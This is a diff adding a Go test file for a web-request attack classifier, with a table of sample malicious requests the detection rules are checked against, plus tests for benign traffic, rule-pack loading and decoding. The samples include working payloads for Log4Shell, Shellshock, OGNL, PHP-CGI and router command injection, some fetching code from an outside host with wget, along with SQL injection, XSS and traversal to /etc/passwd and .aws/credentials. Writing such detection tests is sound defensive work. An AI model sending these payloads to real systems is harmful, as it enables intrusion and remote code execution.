@@ -0,0 +1,228 @@
+package classify
+
+import (
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+)
+
+// sample is a request that a rule must match
+type sample struct {
+	rule           string
+	method, target string
+	header         map[string]string
+	body           string
+}
+
+var samples = []sample{
+	// rce
+	{rule: "log4shell", method: "GET", target: "/", header: map[string]string{"X-Api-Version": "${jndi:ldap://203.0.113.9:1389/Basic/Command/Base64/d2dldA==}"}},
+	{rule: "log4shell", method: "GET", target: "/?x=%24%7B%24%7Blower%3Aj%7D%24%7B%3A%3A-n%7Ddi%3Aldap%3A%2F%2F203.0.113.9%2Fa%7D"},
+	{rule: "log4shell", method: "POST", target: "/login", body: `{"user":"${${env:NaN:-j}ndi${env:NaN:-:}rmi://203.0.113.9/a}"}`},
+	{rule: "shellshock", method: "GET", target: "/cgi-bin/status", header: map[string]string{"User-Agent": "() { :; }; echo; /bin/bash -c 'cat /etc/passwd'"}},
+	{rule: "spring4shell", method: "POST", target: "/", body: "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di"},
+	{rule: "struts-ognl-content-type", method: "POST", target: "/struts2-showcase/upload.action", header: map[string]string{"Content-Type": "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm)}"}},
+	{rule: "confluence-ognl", method: "GET", target: "/%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/"},
+	{rule: "php-cgi-argument-injection", method: "POST", target: "/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", body: "<?php echo shell_exec('id'); ?>"},
+	{rule: "php-cgi-argument-injection", method: "POST", target: "/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input"},
+	{rule: "thinkphp-invokefunction", method: "GET", target: "/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP"},
+	{rule: "command-injection", method: "POST", target: "/boaform/admin/formPing", body: "target_addr=%3Bwget+http%3A%2F%2F203.0.113.9%2Fmozi.m+-O+%2Ftmp%2Fnetgear&waninf=1_INTERNET_R_VID_154"},
+	{rule: "command-injection", method: "GET", target: "/cgi-bin/ping.cgi?host=127.0.0.1%7C%7Ccd%20/tmp"},
+	{rule: "jenkins-script-console", method: "POST", target: "/scriptText", body: "script=println+%22id%22.execute%28%29.text"},
+	{rule: "php-code-injection", method: "GET", target: "/index.php?cmd=system(%27id%27)"},
+	{rule: "php-code-injection", method: "POST", target: "/upload.php", body: "data=<?php eval(base64_decode($_POST['x'])); ?>"},
+	// exploits
+	{rule: "gpon-auth-bypass", method: "POST", target: "/GponForm/diag_Form?images/", body: "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://203.0.113.9/x`;"},
+	{rule: "f5-bigip-bash", method: "POST", target: "/mgmt/tm/util/bash", header: map[string]string{"X-F5-Auth-Token": "a", "Connection": "X-F5-Auth-Token"}, body: `{"command":"run","utilCmdArgs":"-c id"}`},
+	{rule: "hikvision-weblanguage", method: "PUT", target: "/SDK/webLanguage", body: "<?xml version=\"1.0\"?><language>$(id>webLib/x)</language>"},
+	{rule: "netgear-setup-syscmd", method: "GET", target: "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*&curpath=/&currentsetting.htm=1"},
+	{rule: "vcenter-ova-upload", method: "POST", target: "/ui/vropspluginui/rest/services/uploadova"},
+	{rule: "exchange-proxyshell", method: "GET", target: "/autodiscover/autodiscover.json?@evil.corp/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.corp"},
+	{rule: "fortinet-sslvpn-traversal", method: "GET", target: "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"},
+	{rule: "citrix-adc-traversal", method: "GET", target: "/vpn/../vpns/cfg/smb.conf"},
+	{rule: "apache-path-traversal", method: "GET", target: "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd"},
+	{rule: "apache-path-traversal", method: "GET", target: "/icons/.%2e/%2e%2e/%2e%2e/etc/passwd"},
+	{rule: "grafana-plugin-traversal", method: "GET", target: "/public/plugins/alertlist/../../../../../../../../etc/passwd"},
+	// traversal
+	{rule: "path-traversal", method: "GET", target: "/static/..%2f..%2f..%2fetc/hosts"},
+	{rule: "path-traversal", method: "GET", target: "/download.php?file=%252e%252e%252fconfig.php"},
+	{rule: "sensitive-file", method: "GET", target: "/index.php?page=/etc/passwd"},
+	{rule: "sensitive-file", method: "GET", target: "/?file=c:%5Cwindows%5Cwin.ini"},
+	{rule: "php-wrapper", method: "GET", target: "/index.php?page=php://filter/convert.base64-encode/resource=index"},
+	// sqli
+	{rule: "sqli-union", method: "GET", target: "/products.php?id=1+UNION+ALL+SELECT+NULL,concat(user,0x3a,password),NULL+FROM+users--"},
+	{rule: "sqli-union", method: "POST", target: "/search", body: "q=x%27%29%2F**%2FUNION%2F**%2FSELECT%2F**%2F1%2C2%23"},
+	{rule: "sqli-tautology", method: "POST", target: "/wp-login.php", body: "log=admin%27+or+%271%27%3D%271&pwd=x"},
+	{rule: "sqli-tautology", method: "GET", target: "/item?id=1%22%20AND%201=1--"},
+	{rule: "sqli-time-based", method: "GET", target: "/item?id=1%27%20AND%20SLEEP(5)--%20-"},
+	{rule: "sqli-time-based", method: "GET", target: "/item?id=1;WAITFOR+DELAY+'0:0:5'--"},
+	{rule: "sqli-schema", method: "GET", target: "/item?id=-1+or+1=(select+count(*)+from+information_schema.tables)"},
+	// xss
+	{rule: "xss-script", method: "GET", target: "/search?q=%3Cscript%3Ealert(document.domain)%3C/script%3E"},
+	{rule: "xss-script", method: "POST", target: "/comment", body: "url=javascript:alert(1)"},
+	{rule: "xss-event-handler", method: "GET", target: "/?name=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E"},
+	// discovery
+	{rule: "dotfile", method: "GET", target: "/.env"},
+	{rule: "dotfile", method: "GET", target: "/.git/config"},
+	{rule: "dotfile", method: "GET", target: "/app/.aws/credentials"},
+	{rule: "backup-file", method: "GET", target: "/wp-config.php.bak"},
+	{rule: "backup-file", method: "GET", target: "/backup.sql.gz"},
+	{rule: "backup-file", method: "GET", target: "/index.php~"},
+	{rule: "diagnostics", method: "GET", target: "/actuator/env"},
+	{rule: "diagnostics", method: "GET", target: "/phpinfo.php"},
+	{rule: "diagnostics", method: "POST", target: "/_ignition/execute-solution"},
+	// scanners
+	{rule: "scanner-user-agent", method: "GET", target: "/", header: map[string]string{"User-Agent": "Mozilla/5.0 zgrab/0.x"}},
+	{rule: "scanner-user-agent", method: "GET", target: "/?id=1", header: map[string]string{"User-Agent": "sqlmap/1.6.12#stable (https://sqlmap.org)"}},
+	{rule: "scanner-user-agent", method: "GET", target: "/", header: map[string]string{"User-Agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.169 Safari/537.36 Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"}},
+	{rule: "dir-bruteforce-user-agent", method: "GET", target: "/admin", header: map[string]string{"User-Agent": "gobuster/3.1.0"}},
+	{rule: "dir-bruteforce-user-agent", method: "GET", target: "/uploads", header: map[string]string{"User-Agent": "Fuzz Faster U Fool v1.5.0 (ffuf)"}},
+	{rule: "nmap-probe", method: "GET", target: "/nmaplowercheck1697614800"},
+	{rule: "nmap-probe", method: "POST", target: "/sdk", body: "<soap:Envelope/>"},
+}
+
+func classify(t *testing.T, c *Classifier, s sample) Result {
+	t.Helper()
+	r := httptest.NewRequest(s.method, s.target, strings.NewReader(s.body))
+	r.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/119.0")
+	for k, v := range s.header {
+		r.Header.Set(k, v)
+	}
+	if s.body != "" && s.header["Content-Type"] == "" {
+		r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+	}
+	return c.Classify(r, []byte(s.body))
+}
+
+func TestBuiltinRules(t *testing.T) {
+	c := New(Builtin())
+	for _, s := range samples {
+		if res := classify(t, c, s); !slices.Contains(res.Rules, s.rule) {
+			t.Errorf("%s %s: rules %v, want %s", s.method, s.target, res.Rules, s.rule)
+		}
+	}
+
+	// Every rule is tested
+	tested := make(map[string]bool)
+	for _, s := range samples {
+		tested[s.rule] = true
+	}
+	for _, pack := range Builtin() {
+		for _, r := range pack.Rules {
+			if !tested[r.ID] {
+				t.Errorf("rule %s in %s has no sample", r.ID, pack.Name)
+			}
+		}
+	}
+}
+
+func TestBenignRequests(t *testing.T) {
+	c := New(Builtin())
+	for _, s := range []sample{
+		{method: "GET", target: "/"},
+		{method: "GET", target: "/wp-content/themes/twentytwentyone/style.css?ver=1.4"},
+		{method: "GET", target: "/search?q=union+station+select+trains&page=2"},
+		{method: "GET", target: "/docs/v2.1/getting-started.html#install"},
+		{method: "POST", target: "/wp-login.php", body: "log=admin&pwd=P%40ssw0rd%21&wp-submit=Log+In&redirect_to=%2Fwp-admin%2F&testcookie=1"},
+		{method: "POST", target: "/login", header: map[string]string{"Content-Type": "application/json"}, body: `{"user":"admin","password":"prom-operator"}`},
+		{method: "POST", target: "/users/sign_in", body: "utf8=%E2%9C%93&authenticity_token=abc%2Bdef%3D%3D&user%5Blogin%5D=root&user%5Bpassword%5D=5iveL%21fe"},
+		{method: "GET", target: "/api/health", header: map[string]string{"Accept": "application/json, text/plain, */*", "Cookie": "grafana_session=0123456789abcdef; redirect_to=%2F"}},
+	} {
+		if res := classify(t, c, s); res.Matched() {
+			t.Errorf("%s %s: rules %v, want none", s.method, s.target, res.Rules)
+		}
+	}
+}
+
+func TestClassifyResult(t *testing.T) {
+	c := New(Builtin())
+	res := classify(t, c, sample{method: "GET", target: "/cgi-bin/.%2e/.%2e/.%2e/etc/passwd", header: map[string]string{"User-Agent": "Mozilla/5.0 zgrab/0.x"}})
+	want := Result{
+		Rules:      []string{"apache-path-traversal", "scanner-user-agent", "path-traversal", "sensitive-file"},
+		Categories: []string{"lfi", "scanner", "traversal"},
+		CVEs:       []string{"CVE-2021-41773", "CVE-2021-42013"},
+		Risk:       "HIGH",
+	}
+	if !slices.Equal(res.Rules, want.Rules) || !slices.Equal(res.Categories, want.Categories) || !slices.Equal(res.CVEs, want.CVEs) || res.Risk != want.Risk {
+		t.Errorf("Classify() = %+v, want %+v", res, want)
+	}
+
+	if res := classify(t, c, sample{method: "GET", target: "/"}); res.Risk != "" || res.Categories != nil {
+		t.Errorf("Classify() of a plain request = %+v", res)
+	}
+}
+
+func TestLoadDir(t *testing.T) {
+	dir := t.TempDir()
+	os.WriteFile(filepath.Join(dir, "scanners.json"), []byte(`{
+		"category": "scanner",
+		"rules": [{"id": "masscan", "risk": "INFO", "match": [{"field": "header:user-agent", "pattern": "masscan"}]}]
+	}`), 0644)
+	os.WriteFile(filepath.Join(dir, "README.md"), []byte("Not a pack"), 0644)
+
+	packs, err := LoadDir(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	all := Builtin()
+	for name, p := range packs {
+		all[name] = p
+	}
+	c := New(all)
+	res := classify(t, c, sample{method: "GET", target: "/", header: map[string]string{"User-Agent": "masscan/1.3"}})
+	if !slices.Equal(res.Rules, []string{"masscan"}) || res.Risk != "INFO" {
+		t.Errorf("Classify() with a replaced pack = %+v", res)
+	}
+	if c.Len() >= New(Builtin()).Len() {
+		t.Errorf("Len() = %d, the built-in scanners pack was not replaced", c.Len())
+	}
+
+	for _, tt := range []struct{ pack, err string }{
+		{`{"category": "x", "rules": [{"id": "a", "match": [{"field": "cookie", "pattern": "a"}]}]}`, `unknown field "cookie"`},
+		{`{"category": "x", "rules": [{"id": "a", "match": [{"field": "body", "pattern": "(?<=a)"}]}]}`, "rule a: error parsing regexp"},
+		{`{"category": "x", "rules": [{"id": "a", "risk": "SEVERE", "match": [{"field": "body", "pattern": "a"}]}]}`, "invalid risk"},
+		{`{"rules": [{"id": "a", "match": [{"field": "body", "pattern": "a"}]}]}`, "rule a has no category"},
+		{`{"category": "x", "rules": [{"id": "a"}]}`, "rule a has no conditions"},
+		{`{"category": "x", "rules": [{"id": "a", "match": [{"field": "body", "pattern": "a"}]}, {"id": "a", "match": [{"field": "body", "pattern": "b"}]}]}`, "duplicate rule a"},
+	} {
+		os.WriteFile(filepath.Join(dir, "scanners.json"), []byte(tt.pack), 0644)
+		if _, err := LoadDir(dir); err == nil || !strings.Contains(err.Error(), tt.err) || !strings.HasPrefix(err.Error(), "scanners.json: ") {
+			t.Errorf("LoadDir(%s) error = %v, want %q", tt.pack, err, tt.err)
+		}
+	}
+}
+
+func TestDecodings(t *testing.T) {
+	tests := []struct {
+		in   string
+		plus bool
+		want []string
+	}{
+		{"/index.html", false, []string{"/index.html"}},
+		{"a+b%20c", true, []string{"a+b%20c", "a b c"}},
+		{"a+b%20c", false, []string{"a+b%20c", "a+b c"}},
+		{"%252e%252e%252f", false, []string{"%252e%252e%252f", "%2e%2e%2f", "../"}},
+		{".%%32%65/100%", false, []string{".%%32%65/100%", ".%2e/100%", "../100%"}},
+	}
+	for _, tt := range tests {
+		if got := decodings(tt.in, tt.plus); !slices.Equal(got, tt.want) {
+			t.Errorf("decodings(%q, %t) = %q, want %q", tt.in, tt.plus, got, tt.want)
+		}
+	}
+}
+
+func TestMaxRisk(t *testing.T) {
+	for _, tt := range [][3]string{
+		{"", "LOW", "LOW"},
+		{"LOW", "", "LOW"},
+		{"HIGH", "MEDIUM", "HIGH"},
+		{"INFO", "MEDIUM", "MEDIUM"},
+	} {
+		if got := MaxRisk(tt[0], tt[1]); got != tt[2] {
+			t.Errorf("MaxRisk(%q, %q) = %q, want %q", tt[0], tt[1], got, tt[2])
+		}
+	}
+}